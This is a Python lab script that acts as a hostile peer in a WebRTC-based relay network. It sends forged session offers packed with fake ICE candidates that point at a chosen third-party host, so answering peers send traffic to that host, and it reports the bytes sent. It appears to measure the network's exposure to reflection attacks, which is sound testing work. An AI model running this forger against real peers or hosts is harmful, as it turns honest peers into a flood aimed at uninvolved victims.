"""A hostile peer in the lab that has others send to a third party: forger.py URL ID HOST COUNT OFFERS PAUSE

Sends a datagram to the peer ID, which answers; then OFFERS session descriptions, PAUSE seconds apart, that name COUNT
candidates at HOST and what else an honest one has; each in place of the one before. Prints {"bytes": what the offers
have, their records counted}. LAB_SHORT=1: the shortest description that is taken.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import time
from functools import partial
from typing import Any

import aiortc

from peer_relay_socket import AF_PEER, Socket
from peer_relay_socket.codec import packet as wire
from peer_relay_socket.codec.packet import Record, Signal

_NEEDED = (
    *("v=", "o=", "s=", "t=", "m=", "c=", "a=group", "a=mid", "a=sctp-port"),
    *("a=ice-ufrag", "a=ice-pwd", "a=setup", "a=fingerprint:sha-256"),
)


async def description() -> list[str]:
    """Return the lines of an honest offer."""
    pc = aiortc.RTCPeerConnection()
    pc.createDataChannel("peer-relay", negotiated=True, id=0)
    await pc.setLocalDescription(await pc.createOffer())
    lines = pc.localDescription.sdp.splitlines()
    await pc.close()
    return lines


def _say(to: bytes, record: bytes, engine: Any, now: float) -> None:
    engine._core.now = now
    engine._sessions.send(to, record)


def main() -> None:
    url, to, host, count, offers, pause = sys.argv[1:]
    lines = [line for line in asyncio.run(description()) if not line.startswith(("a=candidate", "a=end-of"))]
    if os.environ.get("LAB_SHORT"):
        lines = [line for line in lines if line.startswith(_NEEDED)]
    lines += [f"a=candidate:{n:x} 1 udp {2130706431 - n} {host} {1000 + n} typ host" for n in range(int(count))]
    offer = "\r\n".join([*lines, "a=end-of-candidates", ""]).encode()
    with Socket(AF_PEER, bootstrap=[url], wrtc=False) as socket:
        socket.settimeout(20)
        socket.sendto(b"hello", (to, 5000))
        socket.recvfrom(100)
        ours, sent = socket.peer._host, 0
        for _ in range(int(offers)):
            record = wire.record(Record.SIGNAL, bytes((Signal.OFFER,)) + os.urandom(8) + offer)
            say = partial(_say, bytes.fromhex(to), record)
            ours.runtime.call(ours.driver.run, say)
            sent += len(record)
            time.sleep(float(pause))
        print(json.dumps({"bytes": sent}), flush=True)
        sys.stdin.read()


if __name__ == "__main__":
    main()
